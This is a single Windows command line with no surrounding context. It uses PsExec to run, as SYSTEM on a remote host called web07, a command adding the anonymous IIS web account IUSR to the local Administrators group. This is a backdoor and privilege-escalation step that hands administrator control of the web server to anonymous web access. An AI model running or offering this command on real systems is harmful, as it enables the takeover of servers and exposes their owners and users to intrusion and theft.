psexec \\web07 -s net localgroup Administrators IUSR /add
